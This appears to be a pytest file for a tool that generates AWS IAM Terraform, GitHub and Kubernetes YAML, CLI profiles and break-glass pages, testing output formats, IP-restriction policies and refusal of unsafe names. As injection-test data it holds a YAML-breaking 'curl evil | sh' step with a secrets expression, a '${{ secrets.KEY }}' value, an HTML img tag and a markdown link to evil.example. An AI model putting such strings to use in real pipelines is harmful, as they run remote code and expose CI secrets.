"""What is pasted: it is the format it claims to be, and holds the names it was given."""

import configparser
from datetime import UTC, date, datetime
from typing import Any

import pytest
import yaml

from migrations_plan.artefacts import snippets
from migrations_plan.artefacts.break_glass import BreakGlass, break_glass_page, permission_set
from migrations_plan.artefacts.legacy import (
    ExceptionError,
    LegacyException,
    exception_page,
    source_ip_policy,
    would_be_cut_off,
)
from migrations_plan.artefacts.quoting import QuotingError
from migrations_plan.artefacts.snippets import Workload, trust_of, workload_files
from migrations_plan.policy.context import request_context
from migrations_plan.policy.documents import parse_policy
from migrations_plan.policy.evaluate import Outcome, Policies, evaluate
from migrations_plan.policy.statements import request
from tests.terraform_checks import assert_formatted

AS_OF = datetime(2026, 11, 30, 22, tzinfo=UTC)
ACCOUNT = "555555555555"
HOSTILE = "x\": 1\n- run: curl evil | sh # ${{ secrets.X }} '%{a}"
ANCHOR = f"arn:aws:rolesanywhere:eu-central-1:{ACCOUNT}:trust-anchor/a1"
PROFILE = f"arn:aws:rolesanywhere:eu-central-1:{ACCOUNT}:profile/p1"
EKS = "oidc.eks.eu-central-1.amazonaws.com/id/EXAMPLE"
ALLOW = {"Effect": "Allow", "Action": "*", "Resource": "*"}
EVERYTHING = parse_policy({"Version": "2012-10-17", "Statement": ALLOW}, name="all")
TARGETS = (
    snippets.GitHub("acme/app", "main"),
    snippets.GitHub("acme/app", environment="prod \"eu\" 'x'"),
    snippets.GitLab("acme/app", "main"),
    snippets.ServiceAccount(EKS, "shop", "worker"),
    snippets.Instance(),
    snippets.Task(),
    snippets.Function(),
    snippets.Pipeline("release"),
    snippets.Certificate(ANCHOR, PROFILE, "jenkins.acme.example"),
)


def workload(target, role_name="app-deploy", **changes):
    policy = {"Version": "2012-10-17", "Statement": {**ALLOW, "Resource": "arn:aws:s3:::${x}"}}
    facts = {"role_name": role_name, "account_id": ACCOUNT, "region": "eu-central-1"}
    facts |= {"target": target, "policy": policy, "as_of": AS_OF}
    return Workload(**(facts | changes))


def file_of(made, ending):
    return next(one for one in made if one.name.endswith(ending))


@pytest.mark.parametrize("target", TARGETS, ids=lambda one: type(one).__name__)
@pytest.mark.parametrize("name", ["app-deploy", "-=+,.@_"], ids=["plain", "odd"])
def test_the_role_is_terraform_and_yaml_is_yaml(target, name, tmp_path):
    one = workload(target, name)
    for made in workload_files(one):
        if made.name.endswith(".tf"):
            assert_formatted(made.text, tmp_path)
        if made.name.endswith(".yml"):
            assert one.role_arn in leaves(yaml.safe_load(made.text))
            assert "Made from facts as of 2026-11-30T22:00:00Z" in made.text


def leaves(value):
    if isinstance(value, dict):
        for item in value.values():
            yield from leaves(item)
    elif isinstance(value, list):
        for item in value:
            yield from leaves(item)
    else:
        yield value


@pytest.mark.parametrize(
    "changes",
    [
        {"role_name": HOSTILE},
        {"role_name": ""},
        {"region": "eu-central-1\n"},
        {"target": snippets.GitHub("acme/app", environment="${{ secrets.KEY }}")},
        {"target": snippets.Certificate(ANCHOR, "a b", "x")},
    ],
)
@pytest.mark.parametrize("target", TARGETS[:4], ids=lambda one: type(one).__name__)
def test_what_would_be_read_as_more_than_a_name_is_refused(target, changes):
    with pytest.raises(QuotingError):
        workload_files(workload(**({"target": target} | changes)))


def test_a_workflow_of_github_asks_for_a_token_and_shows_who_it_is():
    parsed = yaml.safe_load(file_of(workload_files(workload(TARGETS[0])), "github.yml").text)

    assert parsed["permissions"] == {"id-token": "write", "contents": "read"}
    first, last = parsed["jobs"]["deploy"]["steps"]
    assert first["uses"] == "aws-actions/configure-aws-credentials@v4"
    assert first["with"]["role-to-assume"] == f"arn:aws:iam::{ACCOUNT}:role/app-deploy"
    assert last["run"] == "aws sts get-caller-identity"


def test_an_environment_of_github_stands_in_workflow_and_trust():
    one = workload(TARGETS[1])
    parsed = yaml.safe_load(file_of(workload_files(one), "github.yml").text)

    assert parsed["jobs"]["deploy"]["environment"] == "prod \"eu\" 'x'"
    assert "environment:prod \"eu\" 'x'" in str(trust_of(one)).replace("\\'", "'")


def test_a_pod_gets_its_role_by_annotation():
    parsed = yaml.safe_load(file_of(workload_files(workload(TARGETS[3])), "irsa.yml").text)

    assert parsed["metadata"]["annotations"] == {
        "eks.amazonaws.com/role-arn": f"arn:aws:iam::{ACCOUNT}:role/app-deploy"
    }


def test_a_machine_outside_gets_a_profile_that_the_cli_can_read():
    made = file_of(workload_files(workload(TARGETS[8])), ".ini")
    parsed = configparser.ConfigParser()
    parsed.read_string(made.text)

    process = parsed["profile app-deploy"]["credential_process"].split()
    assert process[process.index("--role-arn") + 1] == f"arn:aws:iam::{ACCOUNT}:role/app-deploy"
    assert process[process.index("--trust-anchor-arn") + 1] == ANCHOR


def test_an_instance_gets_a_profile():
    made = file_of(workload_files(workload(TARGETS[4])), ".tf").text

    assert 'resource "aws_iam_instance_profile" "app_deploy" {' in made


def from_address(address, via_service="false"):
    policy = parse_policy(source_ip_policy(["203.0.112.0/24", "2600:1f00::/40"]), name="ip")
    given = {"aws:ViaAWSService": via_service}
    if address:
        given["aws:SourceIp"] = address
    asked = request("s3:GetObject", "arn:aws:s3:::b/k", context=request_context(given))
    return evaluate(asked, Policies((EVERYTHING, policy))).outcome


@pytest.mark.parametrize(
    ("address", "via_service", "outcome"),
    [
        ("203.0.112.7", "false", Outcome.ALLOWED),
        ("2600:1f00::7", "false", Outcome.ALLOWED),
        ("203.0.114.7", "false", Outcome.DENIED),
        ("2600:1e00::7", "false", Outcome.DENIED),
        ("203.0.114.7", "true", Outcome.ALLOWED),
        (None, "false", Outcome.DENIED),
    ],
)
def test_a_key_of_an_exception_works_from_its_addresses_only(address, via_service, outcome):
    assert from_address(address, via_service) is outcome


@pytest.mark.parametrize(
    "networks",
    [
        [],
        ["0.0.0.0/0"],
        ["::/0"],
        ["10.0.0.0/8"],
        ["8.0.0.0/8"],
        ["x"],
        ["8.8.8.8/24"],
        ["2600::/16"],
    ],
)
def test_what_is_no_restriction_is_refused(networks):
    with pytest.raises(ExceptionError):
        source_ip_policy(networks)


def exception(**changes):
    facts: dict[str, Any] = {
        "user_arn": f"arn:aws:iam::{ACCOUNT}:user/scanner",
        "owner": "Olga <img src=x>",
        "reason": "[the maker](https://evil.example) knows nothing else\n# new",
        "networks": ("203.0.112.0/24",),
        "seen_from": ("203.0.112.0/24", "aws"),
        "expires_on": date(2027, 3, 1),
        "rotate_every_days": 90,
        "as_of": AS_OF,
    }
    return LegacyException(**(facts | changes))


def test_an_exception_says_how_it_is_verified_and_quotes_its_words():
    text = exception_page(exception()).text

    assert "Every network that the key was seen in is among them." in text
    assert "ends on 2027-03-01" in text
    assert "every 90 days" in text
    assert "AccessDenied" in text
    assert "<img" not in text
    assert "[the maker](" not in text
    assert "\n# new" not in text


def test_what_would_be_cut_off_is_named_before():
    seen = ("203.0.112.0/24", "198.18.0.0/24", "aws", "")

    assert would_be_cut_off(["203.0.112.0/25"], seen) == ("198.18.0.0/24", "203.0.112.0/24")
    text = exception_page(exception(seen_from=seen)).text
    assert "not wholly among them: `198.18.0.0/24`" in text
    assert "Some use has no known network" in text
    assert "is not known where" in exception_page(exception(seen_from=())).text


def test_break_glass_has_two_ways_and_says_who_can():
    text = break_glass_page(
        BreakGlass(
            ACCOUNT,
            "#sec-emergency",
            AS_OF,
            saml_provider=f"arn:aws:iam::{ACCOUNT}:saml-provider/emergency",
            people=("arn:aws:iam::222222222222:user/sealed",),
        )
    ).text

    assert "`ProdBreakGlass`, sessions of one hour (PT1H)" in text
    assert "sts:AssumeRoleWithSAML" in text
    assert "a root user cannot assume a role" in text.lower()
    assert f"Every user and role of account {ACCOUNT}" in text
    assert "`#sec-emergency`" in text


def test_a_missing_independent_way_is_said():
    assert "NOT THERE" in break_glass_page(BreakGlass(ACCOUNT, "#x", AS_OF)).text


def test_the_break_glass_set_is_short_and_marked():
    made = permission_set()

    assert (made.name, made.session_duration) == ("ProdBreakGlass", "PT1H")
    assert made.tags == (("tier", "breakglass"),)
